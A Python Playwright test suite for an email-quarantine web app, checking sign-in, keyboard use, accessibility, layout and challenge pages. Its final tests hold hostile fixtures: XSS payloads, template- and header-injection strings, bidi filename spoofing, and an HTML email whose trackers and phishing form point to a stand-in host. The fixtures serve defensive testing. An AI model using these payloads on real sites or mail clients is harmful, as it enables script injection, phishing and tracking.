"""In Chromium: flows at desk and phone width, keys, accessibility, no script, and mail that means harm."""

from __future__ import annotations

import re
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import replace
from email.message import EmailMessage
from email.policy import SMTP
from pathlib import Path
from typing import Any

import pytest
from axe_playwright_python.sync_playwright import Axe
from playwright.sync_api import Browser, BrowserContext, Page, Route, expect

from tamis.base.tokens import Purpose
from tamis.challenge.code_media import SIZE
from tamis.contract.lists import Colour, Subject
from tamis.database.list_entries import NewEntry
from tamis.quarantine.records import HeldState
from tamis.web.visit import SESSION
from tests.web.browser import DESKTOP, PHONE, context_of
from tests.web.pages import CODE, MARIE, Pages
from tests.web.samples import LISTED, content, message

SIZES = {"desk": DESKTOP, "phone": PHONE}
NARROW = (320, 640)
"""What a page must fit into (WCAG 1.4.10): a desk's window of 1280 pixels at 400 %."""
WIDTHS = (NARROW, (375, 667), DESKTOP)
"""A phone's window is 375 wide or more. The widest comes last."""


@contextmanager
def opened(
    browser: Browser,
    pages: Pages,
    *,
    signed_in: str = "",
    size: tuple[int, int] = DESKTOP,
    language: str = "en",
    dark: bool = False,
    javascript: bool = True,
) -> Iterator[Page]:
    """A tab. What goes wrong in it fails the test: an error of a script, a refusal by the policy, a foreign request."""
    context = context_of(browser, size=size, language=language, dark=dark, javascript=javascript)
    if signed_in:
        sign_in(context, pages, signed_in)
    troubles: list[str] = []
    context.on("request", lambda r: None if r.url.startswith(pages.url + "/") else troubles.append(r.url))
    context.on("console", lambda m: troubles.append(m.text) if m.type == "error" else None)
    context.on("weberror", lambda e: troubles.append(str(e.error)))
    context.on("dialog", lambda d: troubles.append(d.message))
    try:
        tab = context.new_page()
        yield tab
        tab.wait_for_load_state("networkidle")
        # a form that was filled in wrongly is answered 422, which Chromium puts on its console
        assert [t for t in troubles if "status of 422" not in t] == []
    finally:
        context.close()


def sign_in(context: BrowserContext, pages: Pages, address: str) -> None:
    context.add_cookies([{"name": SESSION, "value": pages.session(address), "url": pages.url}])


def press(tab: Page, key: str) -> None:
    """Press a key on the page that was waited for; what listens to keys comes last."""
    tab.wait_for_load_state()
    tab.keyboard.press(key)


def no_overflow(tab: Page) -> None:
    """Nothing is wider than the window."""
    tab.wait_for_load_state()
    wide = tab.evaluate("() => [document.documentElement.scrollWidth, document.documentElement.clientWidth]")
    assert wide[0] <= wide[1], f"{tab.url} is {wide[0]} wide in {wide[1]}"


def fits(tab: Page) -> None:
    """Nothing is wider than a phone's window, and at a desk no table has to be moved either."""
    for width, height in WIDTHS:
        tab.set_viewport_size({"width": width, "height": height})
        no_overflow(tab)
    moved = tab.evaluate(
        "() => [...document.querySelectorAll('.scroll')].filter(e => e.scrollWidth > e.clientWidth)"
        ".map(e => `${e.getAttribute('aria-label')}: ${e.scrollWidth} in ${e.clientWidth}`)"
    )
    assert moved == [], tab.url


def accessible(tab: Page) -> None:
    """axe finds nothing: WCAG 2.2 A and AA, and best practices."""
    tab.wait_for_load_state()  # what was waited for may stand above what is still to come
    found = Axe().run(tab)
    assert len(found.response["passes"]) > 10
    assert found.violations_count == 0, f"{tab.url}\n{found.generate_report()}"


def fill(pages: Pages) -> list[str]:
    """A list as people have it; the ids, newest last."""
    return [
        pages.hold(
            message(n, header_from=author, subject=subject, decided_by=decided_by, age=age),
            content(html="<h2>Devis</h2><p>Bonjour <b>Marie</b></p>", files={"devis.pdf": b"x" * 45_000}),
        )
        for n, (author, subject, decided_by, age) in reversed(list(enumerate(LISTED)))
    ]


def ask(pages: Pages, number: int = 90) -> tuple[str, str]:
    held, challenge = pages.store.challenges.hold_asked(
        message(number), content(), language="en", authenticated=True
    )
    return held, f"/c/{pages.token(Purpose.CHALLENGE, challenge)}"


def state(pages: Pages, number: str) -> HeldState:
    record = pages.store.quarantine.get(number)
    assert record is not None
    return record.summary.state


@pytest.mark.parametrize("size", SIZES)
def test_a_recipient_signs_in_reads_and_delivers(browser: Browser, pages: Pages, size: str) -> None:
    fill(pages)
    with opened(browser, pages, size=SIZES[size]) as tab:
        tab.goto(pages.url)
        tab.get_by_label("Your email address").fill(MARIE)
        tab.get_by_role("button", name="Send me the link").click()
        expect(tab.get_by_role("heading", name="Check your mailbox")).to_be_visible()
        pages.wait_for_mail(1)
        tab.goto(pages.url + pages.mailed_link())
        tab.get_by_role("button", name="Show my held mail").click()
        expect(tab.get_by_role("heading", name="Held for you 7")).to_be_visible()
        no_overflow(tab)
        tab.get_by_role("link", name="Votre devis").click()
        expect(tab.get_by_text("Bonjour Marie")).to_be_visible()
        tab.get_by_text("Show the formatting").click()
        frame = tab.frame_locator("iframe")
        expect(frame.get_by_role("heading", name="Devis")).to_be_visible()
        tab.get_by_text("What else was noticed").click()
        expect(tab.get_by_text("4 filters found nothing.")).to_be_visible()
        no_overflow(tab)
        tab.get_by_role("button", name=re.compile("^Deliver")).click()
        expect(tab.get_by_role("status")).to_contain_text("Delivered.")
        expect(tab.get_by_role("heading", name="Held for you 6")).to_be_visible()
    assert pages.postbox.got[-1].recipients == [MARIE]


def test_everything_by_keys(browser: Browser, pages: Pages) -> None:
    numbers = fill(pages)[::-1]
    with opened(browser, pages, signed_in=MARIE) as tab:
        tab.goto(f"{pages.url}/mail?sort=newest")
        focused = tab.locator(":focus")
        press(tab, "j")
        expect(focused).to_have_text("Votre devis")
        for key, subject in (("j", "Photos du week-end"), ("j", LISTED[2][1]), ("k", "Photos du week-end")):
            press(tab, key)
            expect(focused).to_have_text(subject)
        press(tab, "x")  # delete
        expect(tab.get_by_role("status")).to_contain_text("Deleted.")
        expect(focused).to_have_text(LISTED[2][1])  # goes on where one was
        press(tab, "z")  # undo
        expect(tab.get_by_role("status")).to_contain_text("The message is back.")
        assert state(pages, numbers[1]) is HeldState.HELD
        expect(focused).to_have_text("Photos du week-end")
        press(tab, "d")  # deliver
        expect(tab.get_by_role("status")).to_contain_text("Delivered.")
        expect(focused).to_have_text(LISTED[2][1])
        press(tab, "a")  # always allow the next one, on which the focus is
        expect(tab.get_by_role("status")).to_contain_text("news@offers.example.net will always reach you")
        expect(focused).to_have_text(LISTED[3][1])
        press(tab, "Enter")
        expect(tab.get_by_role("heading", level=1)).to_have_text(LISTED[3][1])
        press(tab, "u")
        expect(tab.get_by_role("heading", name="Held for you 5")).to_be_visible()
        press(tab, "/")
        tab.keyboard.type("2041")
        press(tab, "Enter")
        expect(tab.get_by_role("link", name="Invoice 2041")).to_be_visible()
        expect(tab.locator("[data-open]")).to_have_count(1)
    assert [state(pages, n) for n in numbers[1:3]] == [HeldState.RELEASED, HeldState.RELEASED]


@pytest.mark.parametrize("javascript", [True, False], ids=["script", "no script"])
def test_thirty_three_held_messages_in_two_steps(browser: Browser, pages: Pages, *, javascript: bool) -> None:
    numbers = [pages.hold(message(n, subject=f"No. {n}"), content(f"{n}")) for n in range(33)]
    with opened(browser, pages, signed_in=MARIE, language="fr", javascript=javascript) as tab:
        tab.goto(f"{pages.url}/mail")
        tab.get_by_label("Les 33 affichés").check()
        if javascript:
            expect(tab.get_by_text("Cochés\u00a0: 33")).to_be_visible()
            expect(tab.locator("[data-one]:checked")).to_have_count(33)
        tab.get_by_role("group", name="Pour tous ceux").get_by_role("button", name="Supprimer").click()
        expect(tab.get_by_role("status")).to_contain_text("33 messages supprimés.")
        expect(tab.get_by_role("heading", name="Aucun message en attente")).to_be_visible()
        assert {state(pages, one) for one in numbers} == {HeldState.DELETED}
        tab.get_by_role("button", name=re.compile("Annuler")).click()
        expect(tab.locator("[data-one]")).to_have_count(33)
        if javascript:  # axe is one
            accessible(tab)


def test_ticks_of_groups_and_rows_agree(browser: Browser, pages: Pages) -> None:
    fill(pages)
    with opened(browser, pages, signed_in=MARIE) as tab:
        tab.goto(f"{pages.url}/mail")
        group = tab.get_by_label("Tick these: Probably unwanted")
        group.check()
        ticked = tab.locator("[data-one]:checked")
        many = ticked.count()
        assert 0 < many < 7
        ticked.first.uncheck()
        expect(group).not_to_be_checked()
        expect(ticked).to_have_count(many - 1)
        assert tab.locator("[data-all]").evaluate("box => box.indeterminate")
        tab.locator("[data-open]").first.focus()
        tab.keyboard.press("t")
        expect(ticked).to_have_count(many)
        tab.locator("[data-all]").check()
        expect(ticked).to_have_count(7)
        expect(group).to_be_checked()


TARGETS = """least => [...document.querySelectorAll("a, button, summary, input:not([type=hidden]), select")]
  .filter(one => one.offsetParent && !one.closest(".sr, .skip") && !one.matches(".skip"))
  .map(one => [one.closest("label.tick, label.choice") || one, one.outerHTML.slice(0, 120)])
  .map(([one, html]) => [Math.min(one.getBoundingClientRect().width, one.getBoundingClientRect().height), html])
  .filter(([size]) => size < least)"""
"""What people press that is smaller than so many pixels (WCAG 2.5.8, 2.5.5)."""


def test_what_is_pressed_is_large_enough(browser: Browser, pages: Pages) -> None:
    paths = visited(pages)
    with opened(browser, pages, size=NARROW, language="fr") as tab:
        for name, path in paths.items():
            if name == "list":
                sign_in(tab.context, pages, MARIE)
            if name != "wrong":
                tab.goto(pages.url + path)
                assert tab.evaluate(TARGETS, 24) == [], name
                buttons = tab.evaluate(TARGETS, 43.5)
                assert [html for _, html in buttons if html.startswith("<button")] == [], name


def visited(pages: Pages) -> dict[str, str]:
    """Every page that is not signed in, and every one that is, by a name."""
    number = fill(pages)[-1]
    pages.store.lists.add(
        [
            NewEntry(colour=Colour.WHITE, subject=Subject.SENDER, pattern="a@b.example.net", scope=MARIE),
            NewEntry(colour=Colour.BLACK, subject=Subject.SENDER, pattern="*.example.net", scope=MARIE),
        ]
    )
    return {
        "sign-in": "/sign-in",
        "link": f"/sign-in/{pages.token(Purpose.SIGN_IN, MARIE, 'x')}",
        "confirm": f"/a/{pages.token(Purpose.ACTION, number)}?do=deliver",
        "sender": ask(pages)[1],
        "wrong": "/c/x",
        "list": "/mail",
        "nothing": "/mail?q=nothing+like+it",
        "message": f"/mail/{number}",
        "lists": "/lists",
        "settings": "/settings",
        "dealt with": "/done",
    }


@pytest.mark.parametrize(
    ("size", "dark"), [("desk", False), ("phone", True)], ids=["desk light", "phone dark"]
)
def test_every_page_is_accessible_and_fits(browser: Browser, pages: Pages, size: str, *, dark: bool) -> None:
    paths = visited(pages)
    with opened(browser, pages, size=SIZES[size], dark=dark, language="fr" if dark else "en") as tab:
        for name, path in paths.items():
            if name == "list":
                sign_in(tab.context, pages, MARIE)
            if name == "wrong":
                continue  # answered 404, which Chromium calls an error: below
            tab.goto(pages.url + path)
            for summary in tab.get_by_role("group").locator("summary").all():
                summary.click()
            accessible(tab)
            no_overflow(tab)
        tab.goto(pages.url + paths["sender"])
        tab.get_by_role("button", name=re.compile("^(Type|Recopier) ")).click()
        expect(tab.locator("#typed")).to_be_focused()
        accessible(tab)
        no_overflow(tab)
        tab.goto(pages.url + "/mail")
        tab.locator("button[value=delete]").first.click()
        expect(tab.get_by_role("status")).to_be_visible()  # the page that answers, not the one that was left
        accessible(tab)


def test_an_error_page_is_accessible_too(browser: Browser, pages: Pages) -> None:
    context = context_of(browser)
    tab = context.new_page()
    answer = tab.goto(f"{pages.url}/c/x")
    assert answer is not None
    assert answer.status == 404
    accessible(tab)
    no_overflow(tab)
    context.close()


@pytest.mark.parametrize("size", SIZES)
def test_the_proof_of_work_runs_by_itself(browser: Browser, pages: Pages, size: str) -> None:
    held, path = ask(pages)
    with opened(browser, pages, size=SIZES[size], language="fr") as tab:
        tab.goto(pages.url + path)
        expect(tab.get_by_role("heading", level=1)).to_have_text(
            "Votre message à marie@example.com est en attente"
        )
        expect(tab.get_by_role("status")).to_have_text("Vous pouvez confirmer.")
        assert state(pages, held) is HeldState.HELD  # nothing happens by itself
        tab.get_by_role("button", name=re.compile("ai envoyé")).click()
        expect(tab.get_by_role("heading", level=1)).to_have_text("Message remis à marie@example.com")
        no_overflow(tab)
        tab.reload()
        expect(tab.get_by_role("heading", level=1)).to_have_text("Votre message a été remis")
    assert [mail.recipients for mail in pages.postbox.got] == [[MARIE]]


@pytest.mark.parametrize("language", ["en", "fr"])
def test_pages_fit_into_320_pixels(browser: Browser, pages: Pages, language: str) -> None:
    number = fill(pages)[-1]
    _, sender = ask(pages)
    paths = (
        *(sender, "/sign-in", f"/sign-in/{pages.token(Purpose.SIGN_IN, MARIE, 'x')}"),
        f"/a/{pages.token(Purpose.ACTION, number)}?do=deliver",
    )
    with opened(browser, pages, size=NARROW, language=language) as tab:
        for path in paths:
            tab.goto(pages.url + path)
            no_overflow(tab)
        sign_in(tab.context, pages, MARIE)
        for path in ("/mail", f"/mail/{number}", "/lists", "/settings", "/done"):
            tab.goto(pages.url + path)
            no_overflow(tab)


def test_enter_in_the_password_field_signs_in_with_the_password(
    browser: Browser, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def accepts(_: Any, mailbox: str, password: str, __: Any) -> bool:
        return (mailbox, password) == (MARIE, "secret")

    monkeypatch.setattr("tamis.web.signing_in.imap_accepts", accepts)
    with (
        Pages(tmp_path, {"web": {"imap": "imaps://mail.example.com"}}) as pages,
        opened(browser, pages, size=SIZES["phone"]) as tab,
    ):
        tab.goto(f"{pages.url}/settings")
        tab.get_by_text("Sign in with my mailbox password").click()
        accessible(tab)
        no_overflow(tab)
        tab.get_by_label("Email address", exact=True).fill(MARIE)
        tab.get_by_label("Password", exact=True).fill("secret")
        tab.keyboard.press("Enter")
        expect(tab.get_by_role("heading", level=1)).to_have_text("Settings")  # the page that was asked for
        assert pages.postbox.got == [], "and no link was sent"


def test_the_receipt_leads_to_never_being_asked_again(browser: Browser, pages: Pages) -> None:
    _, path = ask(pages)
    with opened(browser, pages, size=SIZES["phone"]) as tab:
        tab.goto(pages.url + path)
        tab.get_by_role("button", name="I sent it").click()
        expect(tab.get_by_role("heading", level=1)).to_have_text("Delivered to marie@example.com")
        assert [one.validations for one in pages.store.senders.find()] == [0]
        tab.get_by_role("button", name="Never ask me again").click()
        expect(tab.get_by_label(re.compile("^Type the 6 digits"))).to_be_focused()
        no_overflow(tab)
        tab.keyboard.type(CODE)
        tab.keyboard.press("Enter")
        expect(tab.get_by_text("example.com will not ask you again.")).to_be_visible()
    assert [one.validations for one in pages.store.senders.find()] == [1]
    assert len(pages.postbox.got) == 1


def test_a_code_first_and_the_work_beside_it(browser: Browser, pages: Pages) -> None:
    held, path = ask(pages)
    pages.store.overrides.set("example.com", "challenge_proof", "code", by="test", check=pages.check)
    with opened(browser, pages) as tab:
        tab.goto(pages.url + path)
        expect(tab.get_by_role("button", name="I sent it: deliver it")).to_be_visible()
        tab.get_by_role("button", name="Deliver only this message, without a code").click()
        expect(tab.get_by_role("heading", level=1)).to_have_text("Delivered to marie@example.com")
    assert state(pages, held) is HeldState.RELEASED


def test_who_presses_too_early_need_not_press_again(browser: Browser, pages: Pages) -> None:
    _, path = ask(pages)
    waiting: list[Route] = []
    with opened(browser, pages) as tab:
        # the work can't begin before the press; Playwright takes no built-in function
        tab.route("**/work", lambda asked: waiting.append(asked))  # noqa: PLW0108
        tab.goto(pages.url + path)
        button = tab.get_by_role("button", name="I sent it")
        expect(button).to_have_attribute("aria-disabled", "true")
        button.click(force=True)
        while not waiting:
            tab.wait_for_timeout(20)
        waiting[0].continue_()
        expect(tab.get_by_role("heading", level=1)).to_have_text("Delivered to marie@example.com")


def test_something_is_in_the_way_of_the_work(browser: Browser, pages: Pages) -> None:
    held, path = ask(pages)
    with opened(browser, pages) as tab:
        tab.route("**/work", lambda route: route.fulfill(status=422))  # something is in the way
        tab.goto(pages.url + path)
        expect(tab.get_by_role("status")).to_have_text("You will be asked for a code.")
        tab.get_by_role("button", name="I sent it").click()
        expect(tab.get_by_label(re.compile("^Type the 6 digits"))).to_be_focused()
        image = tab.locator("img.captcha")
        assert image.evaluate("i => i.decode().then(() => i.naturalWidth)") == SIZE[0]
        tab.keyboard.type("999999")
        tab.keyboard.press("Enter")
        expect(tab.get_by_role("alert")).to_contain_text("That was not the code. Please try again.")
        tab.get_by_role("button", name="Another code").click()
        expect(tab.get_by_role("alert")).to_have_count(0)
        expect(tab.get_by_label(re.compile("^Type the 6 digits"))).to_be_focused()
        tab.keyboard.type(CODE)
        tab.keyboard.press("Enter")
        expect(tab.get_by_role("heading", level=1)).to_have_text("Delivered to marie@example.com")
    assert state(pages, held) is HeldState.RELEASED


@pytest.mark.parametrize("size", SIZES)
def test_without_javascript(browser: Browser, pages: Pages, size: str) -> None:
    held, path = ask(pages)
    number = fill(pages)[-1]
    with opened(browser, pages, size=SIZES[size], javascript=False) as tab:
        tab.goto(pages.url + path)
        tab.get_by_role("button", name="I sent it").click()
        tab.get_by_label(re.compile("^Type the 6 digits")).fill(CODE)
        tab.get_by_role("button", name="I sent it").click()
        expect(tab.get_by_role("heading", level=1)).to_have_text("Delivered to marie@example.com")
        assert state(pages, held) is HeldState.RELEASED
        sign_in(tab.context, pages, MARIE)
        tab.goto(f"{pages.url}/mail/{number}")
        tab.get_by_role("button", name="This is spam").click()
        expect(tab.get_by_role("status")).to_contain_text("reported as unwanted")
        tab.get_by_role("button", name="Undo").click()
        expect(tab.get_by_role("status")).to_contain_text("The message is back.")
        assert state(pages, number) is HeldState.HELD


EVIL = "http://evil.example"
SCRIPT = "<script>document.title='owned';alert(1)</script>"
BREAKING = (
    f'"><img src={EVIL}/i onerror=alert(1)>{SCRIPT}',
    f"</title></bdi></a></script>{SCRIPT}<svg onload=alert(2)>",
    "{{ 7*7 }} {% include 'base.html' %} %(sender)s {0.__class__}",
    "\u202egnp.exe\u202c \u2066\u2067\u2068 \x00\x07\x1b[31m \u200b\u200d\ufeff",
    "W" * 900,
    "e" + "\u0301\u0335\u0489" * 300,
    "\u2028\u2029\x85\r\n\tTo: victim@example.com",
    "ﷺ" * 200 + "🏴" * 50 + "\U000e0041" * 100,
    "=?utf-8?B?PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==?=",
)
HTML = f"""
<html><head><base href="{EVIL}/"><meta http-equiv="refresh" content="0;url={EVIL}/refresh">
<link rel="stylesheet" href="{EVIL}/s.css"><link rel="prefetch" href="{EVIL}/p"><style>@import "{EVIL}/i.css";
body {{ background: url({EVIL}/b) }} @font-face {{ font-family: x; src: url({EVIL}/f) }}</style>
<script src="{EVIL}/x.js"></script></head>
<body background="{EVIL}/bg" onload="alert(3)">{SCRIPT}
<img src="{EVIL}/pixel.gif" srcset="{EVIL}/2x 2x"><img src="cid:1"><picture><source srcset="{EVIL}/pic"></picture>
<div style="background-image: url({EVIL}/div); position: fixed; inset: 0; z-index: 9">cover</div>
<iframe src="{EVIL}/frame"></iframe><object data="{EVIL}/o"></object><embed src="{EVIL}/e">
<video src="{EVIL}/v" autoplay></video>
<audio src="{EVIL}/a" autoplay></audio><svg><image href="{EVIL}/svg"/><use href="{EVIL}/use#x"/></svg>
<math><mtext><table><mglyph><style><!--</style>
<img title="--&gt;&lt;img src={EVIL}/m onerror=alert(4)&gt;"></table></math>
<form action="{EVIL}/post"><input name="password" autofocus onfocus="alert(5)"><button>Sign in</button></form>
<a href="{EVIL}/click" ping="{EVIL}/ping" target="_top">Click here</a><a href="javascript:alert(6)">or here</a>
<table width="99999"><tr><td width="99999" background="{EVIL}/td">wide</td></tr></table><pre>{"x" * 5000}</pre>
<noscript><p title="</noscript><img src={EVIL}/n onerror=alert(7)>"></noscript><template><img src={EVIL}/t></template>
<p>the end of it</p></body></html>
"""


def hostile(number: int, text: str) -> tuple[str, bytes]:
    """A subject and a content in which everything that can hold words holds these."""
    mail = EmailMessage(policy=SMTP)
    mail["From"] = "x@example.net"
    mail.set_content(f"{text}\n{SCRIPT}\n", cte="base64")
    mail.add_alternative(HTML + text.replace("\x00", ""), subtype="html", cte="base64")
    raw = mail.as_bytes()
    name = text.encode("utf-8").hex()
    encoded = "".join(f"%{name[i : i + 2]}" for i in range(0, min(len(name), 1500), 2))
    boundary = b"=_outer"
    part = (
        b"--=_outer\r\nContent-Type: text/x" + SCRIPT.encode() + b"; x\r\n"
        b"Content-Disposition: attachment; filename*=utf-8''"
        + encoded.encode()
        + b"\r\n\r\nx\r\n--=_outer--\r\n"
    )
    header = f'To: "{SCRIPT}" <y@example.com>\r\nReply-To: {SCRIPT}\r\nMIME-Version: 1.0\r\n'.encode()
    header += b'Content-Type: multipart/mixed; boundary="=_outer"\r\n\r\n'
    return text, header + b"--" + boundary + b"\r\n" + raw + b"\r\n" + part


@pytest.mark.parametrize("size", SIZES)
def test_mail_that_means_harm(browser: Browser, pages: Pages, size: str) -> None:
    """Subject, names, addresses, reasons, HTML, files: no script runs, no request leaves, the page stays whole."""
    numbers = []
    texts = BREAKING if size == "phone" else BREAKING[:3]  # where there is less room, more can break
    for n, text in enumerate(texts):
        subject, raw = hostile(n, text)
        held = message(
            n, subject=subject, header_from=f"{text} <x{n}@example.net>", sender=f"{text}@example.net"
        )
        findings = [{**f, "because": text, "facts": {"x": text}} for f in held.findings]
        opinions = [{**o, "text": text} for o in (held.verdict or {})["opinions"]]
        held = replace(held, findings=findings, verdict={"opinions": opinions}, because=text, message_id=text)
        numbers.append(pages.hold(held, raw))
    with opened(browser, pages, signed_in=MARIE, size=SIZES[size]) as tab:
        tab.goto(f"{pages.url}/mail")
        expect(tab.locator("[data-row]")).to_have_count(len(texts))
        whole(tab)
        for number in numbers:
            tab.goto(f"{pages.url}/mail/{number}")
            for summary in tab.locator("summary").all():
                summary.click()
            expect(tab.frame_locator("iframe").get_by_text("the end of it")).to_be_visible()
            whole(tab)
            link = tab.frame_locator("iframe").get_by_text("Click here")
            link.click(force=True)
            assert tab.url.startswith(pages.url)
        for number in numbers:
            tab.goto(f"{pages.url}/a/{pages.token(Purpose.ACTION, number)}?do=delete")
            whole(tab)


def whole(tab: Page) -> None:
    """The page is ours from top to end."""
    no_overflow(tab)
    assert tab.title() != "owned"
    assert (
        tab.locator("script:not([src]), main img[src^='http'], main svg, main form[action^='http']").count()
        == 0
    )
    assert tab.locator("header.top").count() == 1
    top, height = tab.locator("header.top").evaluate(
        "h => [h.getBoundingClientRect().top + scrollY, h.offsetHeight]"
    )
    assert top == 0
    assert height < 200


def test_the_sender_sees_the_own_hostile_subject_harmless(browser: Browser, pages: Pages) -> None:
    with opened(browser, pages, size=PHONE) as tab:
        for n, text in enumerate(BREAKING):
            _, challenge = pages.store.challenges.hold_asked(
                message(n, subject=text, sender=f"a{n}@example.net"),
                content(),
                language="en",
                authenticated=True,
            )
            tab.goto(f"{pages.url}/c/{pages.token(Purpose.CHALLENGE, challenge)}")
            whole(tab)
